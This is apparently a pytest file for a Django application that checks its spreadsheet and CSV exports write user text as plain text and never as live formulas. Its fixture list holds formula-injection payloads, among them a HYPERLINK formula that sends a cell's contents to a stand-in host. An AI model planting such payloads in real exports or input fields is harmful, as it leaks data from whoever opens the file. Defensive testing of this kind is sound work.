"""Every spreadsheet and CSV export writes a user's text as text (formats/ecriture.py): with a hostile label in
each place a user's text reaches an export, no cell of any export is a formula, and what the imports of
Mutualis read back is the text as typed."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from formats.ecriture import sans_apostrophe
from masse_salariale.models import RegleCorrespondance
from referentiel.models import Activite
from tests.cast import MERIGNAC
from tests.scenarios.test_scenarios import action_post, scenario  # noqa: F401 (fixture)

pytestmark = pytest.mark.django_db

HOSTILES = ['=HYPERLINK("http://x.example/?"&B2,"Cliquez ici")', "+SUM(1+1)", "-2+3", "@SUM(A1)"]


def formules(contenu: bytes) -> list[str]:
    """The cells of every sheet that a spreadsheet would run: typed formulas, or texts without the quote
    prefix that begin like one."""
    trouvees = []
    for ws in load_workbook(io.BytesIO(contenu)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    trouvees.append(f"{ws.title}!{cell.coordinate} formule {cell.value}")
                elif (
                    isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")) and not cell.quotePrefix
                ):
                    trouvees.append(f"{ws.title}!{cell.coordinate} sans préfixe {cell.value}")
    return trouvees


def test_no_export_holds_a_formula(cast, territoire, scenario, connecte):  # noqa: F811
    equipe = connecte(cast["equipe_projet"])
    # A hostile activity label and sub-activity, a hostile commune name, hostile rules.
    activite = Activite.objects.filter(territoire=territoire, code="RH-PAIE").get()
    activite.libelle = HOSTILES[0]
    activite.save()
    territoire.organisations.filter(code=MERIGNAC).update(nom=HOSTILES[1])
    merignac = territoire.organisations.get(code=MERIGNAC)
    for k, valeur in enumerate(HOSTILES):
        RegleCorrespondance.objects.create(
            organisation=merignac, cle="emploi", valeur=valeur, valeur_normalisee=f"h{k}", theme="RH"
        )
    equipe.post(
        reverse("scenarios:action_ajouter", kwargs={"code": territoire.code, "pk": scenario.pk}),
        action_post(territoire, communes=(MERIGNAC,), activite="RH-FORM", identifiant="form"),
    )
    exports = {
        "référentiel": reverse("referentiel:exporter", kwargs={"code": territoire.code}),
        "impact": reverse("scenarios:impact", kwargs={"code": territoire.code, "pk": scenario.pk}),
        "correspondance": reverse(
            "masse_salariale:regles_export", kwargs={"code": territoire.code, "employeur": MERIGNAC}
        )
        + "?format=xlsx",
    }
    for nom, url in exports.items():
        reponse = equipe.get(url)
        assert reponse.status_code == 200, nom
        contenu = reponse.content
        texte = " ".join(
            str(c.value) for ws in load_workbook(io.BytesIO(contenu)).worksheets for r in ws.iter_rows() for c in r
        )
        assert any(h in texte for h in HOSTILES), f"{nom} : le texte hostile n'est pas dans l'export : {texte[:3000]}"
        assert formules(contenu) == [], nom

    reponse = equipe.get(
        reverse("masse_salariale:regles_export", kwargs={"code": territoire.code, "employeur": MERIGNAC}),
        {"format": "csv"},
    )
    cellules = [c for row in csv.reader(io.StringIO(reponse.content.decode()), delimiter=";") for c in row]
    assert not [c for c in cellules if c.startswith(("=", "+", "-", "@"))]
    assert {sans_apostrophe(c) for c in cellules} >= set(HOSTILES)
